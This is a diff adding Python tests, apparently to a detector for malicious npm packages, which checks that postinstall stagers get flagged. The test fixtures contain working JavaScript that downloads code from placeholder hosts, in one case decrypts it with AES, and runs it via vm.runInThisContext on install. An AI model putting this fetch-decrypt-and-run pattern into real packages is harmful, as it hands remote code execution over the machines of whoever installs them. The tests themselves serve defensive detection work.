@@ -1721,3 +1721,32 @@ def test_a_cli_subcommand_handler_is_called_by_its_user():
     alone = run({"bin/cli.js": cli.replace("await fleet.warm(await loadCreds());", "console.log(id);"), "bin/fleet.js": fleet},
                 bins={"ec2-connect": "bin/cli.js"}, main="bin/none.js")
     assert all(f.severity < Severity.CRITICAL for f in alone if f.rule == "code/key-exfiltration")
+
+
+NET_HELPER = ("const https = require('https');\nexports.get = (u) => new Promise((res) => https.get(u, (r) => { let b = ''; "
+              "r.on('data', (d) => b += d); r.on('end', () => res(b)); }));\n")
+
+
+def test_install_code_that_runs_what_a_helper_module_downloaded():
+    # (the shape of blind set 54's MEGA stager: the postinstall script runs what the package's own download helper returns)
+    go = ("const vm = require('vm');\nconst { get } = require('./net');\n"
+          "async function main() { const code = await get('https://mirror.example/hook.js'); vm.runInThisContext(code); }\nmain();\n")
+    found = run({"scripts/go.js": go, "scripts/net.js": NET_HELPER}, scripts={"postinstall": "node scripts/go.js"})
+    ran = next(f for f in found if f.rule == "code/remote-code")
+    assert ran.severity is Severity.CRITICAL and decide(found).level is Level.MALICIOUS
+    # What the helper downloads parsed and written as data is a download, not code run.
+    data = go.replace("vm.runInThisContext(code);", "require('fs').writeFileSync('models.json', JSON.stringify(JSON.parse(code)));")
+    assert "code/remote-code" not in rules(run({"scripts/go.js": data, "scripts/net.js": NET_HELPER}, scripts={"postinstall": "node scripts/go.js"}))
+
+
+def test_data_downloaded_and_decrypted_then_run_is_a_stager():
+    # (blind set 54's TensorFlow.js model mirror: a postinstall lists a MEGA folder, decrypts a file with the link's key
+    # and runs it with vm; no ciphertext blob in the package)
+    mega = NET_HELPER + ("const crypto = require('crypto');\nexports.download = async (u, key) => { const d = crypto.createDecipheriv("
+                         "'aes-128-ctr', key, Buffer.alloc(16)); return Buffer.concat([d.update(Buffer.from(await exports.get(u))), d.final()]); };\n")
+    go = ("const vm = require('vm');\nconst { download } = require('./mega');\n"
+          "async function main() { const code = (await download('https://mega.example/f/1', Buffer.alloc(16))).toString(); "
+          "vm.runInThisContext(code); }\nmain();\n")
+    found = run({"scripts/go.js": go, "scripts/mega.js": mega}, scripts={"postinstall": "node scripts/go.js"})
+    assert any(f.severity is Severity.CRITICAL and f.rule in ("code/decrypt-and-run", "code/remote-code") for f in found)
+    assert decide(found).level is Level.MALICIOUS
